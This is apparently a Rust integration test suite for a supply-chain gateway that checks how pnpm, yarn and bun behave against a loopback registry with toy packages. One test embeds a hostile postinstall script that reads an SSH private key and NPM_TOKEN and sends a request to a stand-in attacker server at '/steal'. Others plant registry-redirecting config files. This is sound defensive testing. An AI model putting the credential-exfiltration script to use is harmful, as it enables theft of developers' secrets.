//! The real pnpm, yarn (1, and 2 and later) and bun in the closed world of a plan, against a registry on the loopback with
//! toy packages. Of each, every one that is found: on PATH, and in the directories that `TIDEWAITER_TOOLS` names
//! (separated by colons). None found: said, and nothing tried.

use std::path::PathBuf;

use serde_json::json;
use tidewaiter::enforce::{Form, Uncontained};

use crate::gateway_npm::{ByEngine, Rig, exists, lines, nothing, with_packages};
use crate::support::loopback::{Fault, Loopback};

const OLD: &str = "2020-01-01T00:00:00Z";

/// Directories with a program of this name.
pub fn found(name: &str) -> Vec<PathBuf> {
    let named = std::env::var_os("TIDEWAITER_TOOLS").unwrap_or_default();
    let path = std::env::var_os("PATH").unwrap_or_default();
    let all = std::env::split_paths(&named).chain(std::env::split_paths(&path));
    let mut out: Vec<PathBuf> = all.filter(|d| d.join(name).is_file()).collect();
    out.dedup();
    if out.is_empty() {
        eprintln!("skipped: there is no {name} here");
    }
    out
}

/// A rig whose PATH begins with a tool's directory, for each that is found and starts, with its version.
fn each(name: &str, mut test: impl FnMut(Rig, &str)) {
    for directory in found(name) {
        let Some(mut rig) = with_packages() else { return };
        let path = std::env::var("PATH").unwrap_or_default();
        rig.set("PATH", &format!("{}:{path}", directory.display()));
        rig.set("YARN_ENABLE_TELEMETRY", "0");
        // yarn 1 has one cache for root, whatever HOME is.
        rig.set("npm_config_cache_folder", &rig.work().join("../home/yarn-cache").display().to_string());
        let version = rig.bare(&[name, "--version"]);
        let text = String::from_utf8_lossy(&version.stdout).trim().to_owned();
        // What `node` is here may be too old for it, and Corepack fetches it from where no test asks.
        if !version.status.success() || directory.join("corepack").exists() && name == "yarn" && text.is_empty() {
            eprintln!("skipped: {name} in {} does not start", directory.display());
            continue;
        }
        if name == "yarn" && !text.starts_with("1.") {
            rig.write("yarn.lock", "");
            rig.write(
                ".yarnrc.yml",
                &format!(
                    "nodeLinker: node-modules\nunsafeHttpWhitelist: [127.0.0.1]\nnpmRegistryServer: \"{}\"\n",
                    rig.server.npm_url().trim_end_matches('/')
                ),
            );
        }
        eprintln!("{name} {text}");
        test(rig, &text);
    }
}

const MANIFEST: &str = "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\"\n}\n";

fn anew(rig: &Rig, name: &str, version: &str) {
    for path in ["node_modules", "pnpm-lock.yaml", "yarn.lock", "bun.lock", ".yarn", "package.json"] {
        let path = rig.work().join(path);
        let _ = if path.is_dir() { std::fs::remove_dir_all(path) } else { std::fs::remove_file(path) };
    }
    rig.write("package.json", MANIFEST);
    if name == "yarn" && !version.starts_with("1.") {
        rig.write("yarn.lock", "");
    }
}

/// What a tool writes, without the moment of writing.
fn written(rig: &Rig) -> Vec<String> {
    let files =
        ["package.json", "pnpm-lock.yaml", "yarn.lock", "node_modules/.modules.yaml", "node_modules/.yarn-integrity"];
    let timeless = |text: String| -> String {
        let dated = |line: &&str| !line.contains("prunedAt") && !line.contains("\"pendingBuilds\": []");
        text.lines().filter(dated).map(|l| format!("{l}\n")).collect()
    };
    files.iter().map(|f| timeless(rig.read(f))).collect()
}

#[test]
fn an_allowed_install_works_and_writes_what_a_bare_one_writes() {
    for name in ["pnpm", "yarn", "bun"] {
        each(name, |rig, version| {
            let wanted = ["tw-a", "tw-b"];
            anew(&rig, name, version);
            let outcome = rig.run(&[name, "add", wanted[0], wanted[1]], nothing);
            assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{name} {version}: {outcome:?}");
            assert_eq!((outcome.form, outcome.served.len()), (Form::Gateway, 2), "{name} {version}: {outcome:?}");
            let ran = rig.bare(&["node", "-e", "console.log(require('tw-b'), require('tw-a/package.json').version)"]);
            assert_eq!(String::from_utf8_lossy(&ran.stdout), "b1 1.0.0\n", "{name} {version}: {ran:?}");
            let gated = written(&rig);
            assert!(gated.iter().all(|text| !text.contains("/npm/~/")), "{name} {version}: {gated:?}");
            // By the lockfile, without what was there.
            std::fs::remove_dir_all(rig.work().join("node_modules")).unwrap();
            let frozen = if version.starts_with("1.") || name != "yarn" { "--frozen-lockfile" } else { "--immutable" };
            let outcome = rig.run(&[name, "install", frozen], nothing);
            assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{name} {version}: {outcome:?}");
            assert!(exists(&rig.work().join("node_modules/tw-b/package.json")), "{name} {version}");
            anew(&rig, name, version);
            let bare = rig.bare(&[name, "add", wanted[0], wanted[1]]);
            assert!(bare.status.success(), "{name} {version}: {bare:?}");
            assert_eq!(written(&rig), gated, "{name} {version}");
        });
    }
}

#[test]
fn what_changes_between_judging_and_installing_does_not_come_in() {
    type Change = fn(&Rig);
    let changes: &[(&str, Change, bool)] = &[
        ("a newer version", |r| _ = r.server.npm("tw-b", "1.1.0", OLD, json!({})), true),
        ("other bytes", |r| _ = r.server.raw("/npm/tw-b/-/tw-b-1.0.0.tgz", "x/y", b"other".to_vec()), false),
        ("one bent byte", |r| _ = r.server.always("/npm/tw-b/-/", Fault::BentByte), false),
        (
            "the same version anew, with its digest",
            |r| _ = r.server.npm("tw-b", "1.0.0", OLD, json!({"dependencies": {"tw-evil": "1"}})),
            false,
        ),
    ];
    for name in ["pnpm", "yarn", "bun"] {
        for (what, change, installs) in changes {
            each(name, |rig, version| {
                let outcome = rig.run(&[name, "add", "tw-a"], change);
                assert_eq!(outcome.ended.success(), *installs, "{name} {version}, {what}: {outcome:?}");
                let refused = lines(&outcome);
                if *installs {
                    assert!(!rig.read("pnpm-lock.yaml").contains("1.1.0") && !rig.read("yarn.lock").contains("1.1.0"));
                } else {
                    assert!(!exists(&rig.work().join("node_modules/tw-b/package.json")), "{name} {version}, {what}");
                    assert!(refused.iter().any(|l| l.starts_with("tidewaiter: tw-b")), "{name}, {what}: {refused:?}");
                }
            });
        }
    }
}

#[test]
fn files_and_variables_cannot_lead_elsewhere() {
    let evil = Loopback::start();
    evil.npm("tw-a", "9.0.0", OLD, json!({})).npm("tw-b", "9.0.0", OLD, json!({}));
    for name in ["pnpm", "yarn", "bun"] {
        each(name, |mut rig, version| {
            rig.server.npm("@acme/c", "1.0.0", OLD, json!({}));
            let url = evil.npm_url();
            for variable in ["npm_config_@acme:registry", "NPM_CONFIG_CACHE_FOLDER"] {
                rig.set(variable, &rig.server.npm_url());
            }
            let own = rig.server.npm_url();
            let registry = format!("--registry={own}");
            let words: Vec<&str> = match version.starts_with("1.") || name != "yarn" {
                true => vec![name, "add", "tw-a", "@acme/c", &registry],
                false => vec![name, "add", "tw-a", "@acme/c"],
            };
            let outcome = rig.tried_in(&words, &Uncontained, |rig| {
                rig.write(".npmrc", &format!("registry={url}\n@acme:registry={url}\n"));
                rig.write("../home/.npmrc", &format!("registry={url}\nhttps-proxy={url}\n"));
                rig.write(".yarnrc", &format!("registry \"{url}\"\n--registry \"{url}\"\n--add.registry \"{url}\"\n"));
            });
            let outcome = outcome.unwrap();
            assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{name} {version}: {outcome:?}");
            assert_eq!(evil.paths(), [""; 0], "{name} {version}");
            assert!(exists(&rig.work().join("node_modules/@acme/c/package.json")), "{name} {version}");
        });
    }
}

#[test]
fn a_scope_in_yarns_own_file_has_its_own_registry() {
    each("yarn", |rig, version| {
        if version.starts_with("1.") {
            return;
        }
        let private = Loopback::start();
        private.npm("@acme/c", "1.0.0", OLD, json!({"dependencies": {"tw-b": "1"}}));
        private.password("", "Bearer sesame");
        let own = rig.read(".yarnrc.yml");
        let scope = format!(
            "{own}npmScopes:\n  acme:\n    npmRegistryServer: \"{}\"\n    npmAuthToken: sesame\n    npmAlwaysAuth: true\n",
            private.npm_url().trim_end_matches('/')
        );
        rig.write(".yarnrc.yml", &scope);
        let outcome = rig.run(&["yarn", "add", "@acme/c"], |_| private.clear_log());
        assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{version}: {outcome:?}");
        assert!(exists(&rig.work().join("node_modules/@acme/c/package.json")), "{version}");
        assert!(private.log().iter().all(|l| l.header("authorization") == Some("Bearer sesame")), "{version}");
        assert!(!rig.read("yarn.lock").contains("127.0.0.1"), "{version}: {}", rig.read("yarn.lock"));
    });
}

#[test]
fn what_was_judged_has_to_be_what_is_there() {
    for name in ["pnpm", "yarn", "bun"] {
        each(name, |rig, version| {
            let outcome = rig.tried_in(&[name, "add", "tw-a"], &Uncontained, |rig| {
                rig.write("package.json", "{\"name\": \"app\", \"dependencies\": {\"tw-evil\": \"1\"}}");
            });
            let error = outcome.unwrap_err().to_string();
            assert!(error.contains("package.json was changed after it was judged"), "{name} {version}: {error}");
        });
    }
}

#[test]
fn scripts_run_when_they_were_cleared_and_reach_nothing() {
    let available = tidewaiter::enforce::sandbox::availability_with(env!("CARGO_BIN_EXE_tidewaiter").as_ref());
    for name in ["pnpm", "yarn", "bun"] {
        each(name, |mut rig, version| {
            let evil = Loopback::start();
            let code = format!(
                "const fs = require('fs'), out = [];\n\
                 try {{ fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519'); out.push('key') }} catch {{}}\n\
                 if (process.env.NPM_TOKEN) out.push('env');\n\
                 const done = () => {{ fs.writeFileSync('{}/ran', out.join()); process.exit() }};\n\
                 require('http').get('{}/steal', () => {{ out.push('net'); done() }}).on('error', done);\n",
                rig.work().display(),
                evil.url
            );
            rig.server.npm_with(
                "tw-s",
                "1.0.0",
                OLD,
                json!({"scripts": {"postinstall": "node post.js"}, "hasInstallScript": true}),
                &[("post.js", &code)],
            );
            rig.set("NPM_TOKEN", "PRIVATE");
            rig.write("tmp/here", "");
            rig.set("TMPDIR", &rig.work().join("tmp").display().to_string());
            rig.write("../home/.ssh/id_ed25519", "PRIVATE");
            // pnpm 10 and later, and yarn 4.14 and later, ask the project for every package that has scripts.
            let manifest = json!({"name": "app", "version": "1.0.0", "dependencies": {"tw-s": "1"},
                "pnpm": {"onlyBuiltDependencies": ["tw-s"]}, "dependenciesMeta": {"tw-s": {"built": true}}, "trustedDependencies": ["tw-s"]});
            let allowed = "packages: []\nonlyBuiltDependencies: [tw-s]\nallowBuilds:\n  tw-s: true\n";
            rig.write("package.json", &manifest.to_string()).write("pnpm-workspace.yaml", allowed);
            rig.set("YARN_ENABLE_SCRIPTS", "1");
            let skipped = match version.starts_with("1.") || name != "yarn" {
                true => rig.run(&[name, "install", "--ignore-scripts"], nothing),
                false => rig.run(&[name, "install", "--mode=skip-build"], nothing),
            };
            assert!(skipped.ended.success() || version.starts_with("2."), "{name} {version}: {skipped:?}");
            assert!(!exists(&rig.work().join("ran")), "{name} {version}");
            anew(&rig, name, version);
            rig.write("package.json", &manifest.to_string());
            let contained = available.works() && available.landlock_abi >= 4;
            let outcome = match contained {
                true => rig.run_in(&[name, "install"], &ByEngine, nothing),
                false => rig.run(&[name, "install"], nothing),
            };
            assert_eq!(outcome.ended.status(), 0, "{name} {version}: {outcome:?}");
            assert!(exists(&rig.work().join("ran")), "{name} {version}: the script did not run: {outcome:?}");
            if contained {
                assert_eq!((rig.read("ran"), evil.paths()), (String::new(), vec![]), "{name} {version}");
            }
        });
    }
}

#[test]
fn programs_are_fetched_and_run() {
    let code = "#!/usr/bin/env node\nrequire('fs').writeFileSync('said', JSON.stringify([process.argv.slice(2), \
                require('tw-b'), Object.keys(process.env).filter(n => /registry|proxy/i.test(n))]))\n";
    for name in ["pnpm", "yarn", "bun"] {
        each(name, |rig, version| {
            if name == "yarn" && version.starts_with("1.") {
                return;
            }
            let manifest = json!({"bin": "cli.js", "dependencies": {"tw-b": "1"}});
            rig.server.npm_with("tw-run", "1.0.0", OLD, manifest, &[("cli.js", code)]);
            let outcome =
                rig.run(&[name, if name == "bun" { "x" } else { "dlx" }, "tw-run", "--registry=x", "a b"], nothing);
            assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]), "{name} {version}: {outcome:?}");
            let said: serde_json::Value = serde_json::from_str(&rig.read("said")).unwrap();
            assert_eq!((&said[0], &said[1]), (&json!(["--registry=x", "a b"]), &json!("b1")), "{name} {version}");
            assert_eq!(said[2], json!([]), "{name} {version}");
            assert!(!exists(&rig.work().join("node_modules")), "{name} {version}");
        });
    }
}
